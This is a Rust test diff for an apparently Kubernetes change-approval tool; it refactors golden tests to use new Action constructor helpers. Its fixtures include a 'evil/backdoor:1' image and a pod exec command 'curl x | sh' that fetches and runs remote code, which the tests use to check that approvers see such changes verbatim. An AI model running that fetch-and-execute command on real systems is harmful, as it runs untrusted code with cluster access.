@@ -13,7 +13,7 @@ use super::{
 use crate::{
     admission::digest::digest,
     change::{Action, Redactor, record},
-    crd::{ApprovalRequest, ApprovalRequestSpec, ApprovalRequestStatus, Operation, Target},
+    crd::{ApprovalRequest, ApprovalRequestSpec, ApprovalRequestStatus, Target},
 };
 
 fn now() -> Timestamp {
@@ -74,27 +74,13 @@ fn deployment(image: &str) -> Value {
                {"name": "app", "image": image}, {"name": "sidecar", "image": "envoy:1"}]}}}})
 }
 
-fn update(old: &Value, new: &Value) -> Action<'static> {
-    let (old, new) = (
-        Box::leak(Box::new(old.clone())),
-        Box::leak(Box::new(new.clone())),
-    );
-    Action {
-        operation: Operation::Update,
-        subresource: None,
-        object: Some(new),
-        old_object: Some(old),
-        options: None,
-    }
-}
-
 #[test]
 fn golden_update_shows_the_old_image_removed_and_the_new_one_added() {
     let t = target("apps", "deployments", None, "checkout");
     let req = held(
         "checkout-update",
         t,
-        &update(&deployment("nginx:1.27"), &deployment("evil/backdoor:1")),
+        &Action::update(&deployment("nginx:1.27"), &deployment("evil/backdoor:1")),
     );
     let (described, diffed) = check("update", &req);
     assert!(
@@ -111,13 +97,7 @@ fn golden_update_shows_the_old_image_removed_and_the_new_one_added() {
 fn golden_create_shows_the_whole_object() {
     let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "flags", "namespace": "prod"},
                     "data": {"checkout.enabled": "false"}});
-    let action = Action {
-        operation: Operation::Create,
-        subresource: None,
-        object: Some(&cm),
-        old_object: None,
-        options: None,
-    };
+    let action = Action::create(&cm);
     let (_, diffed) = check(
         "create",
         &held(
@@ -134,13 +114,7 @@ fn golden_delete_shows_the_uid_and_the_propagation_policy() {
     let old = json!({"apiVersion": "apps/v1", "kind": "Deployment",
         "metadata": {"name": "checkout", "uid": "3f1c9a52-uid", "resourceVersion": "41", "labels": {"app": "checkout"}}});
     let options = json!({"propagationPolicy": "Background"});
-    let action = Action {
-        operation: Operation::Delete,
-        subresource: None,
-        object: None,
-        old_object: Some(&old),
-        options: Some(&options),
-    };
+    let action = Action::delete(&old, Some(&options));
     let (described, diffed) = check(
         "delete",
         &held(
@@ -164,13 +138,7 @@ fn golden_delete_shows_the_uid_and_the_propagation_policy() {
 fn golden_exec_shows_the_command_line_verbatim() {
     let options = json!({"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "curl x | sh"],
                          "container": "app", "stdin": true, "stdout": true, "stderr": true, "tty": true});
-    let action = Action {
-        operation: Operation::Connect,
-        subresource: Some("exec"),
-        object: Some(&options),
-        old_object: None,
-        options: None,
-    };
+    let action = Action::connect("exec", &options);
     let (described, _) = check(
         "exec",
         &held(
@@ -191,7 +159,8 @@ fn golden_secret_shows_keys_and_hashes_never_values() {
         json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db", "resourceVersion": "7"},
                                    "type": "Opaque", "data": {"password": pw, "user": "YWRtaW4="}})
     };
-    let action = update(&secret("aHVudGVyMg=="), &secret("c3VwZXJzM2NyZXQ="));
+    let (old, new) = (secret("aHVudGVyMg=="), secret("c3VwZXJzM2NyZXQ="));
+    let action = Action::update(&old, &new);
     let (described, diffed) = check(
         "secret",
         &held("db-update", target("", "secrets", None, "db"), &action),
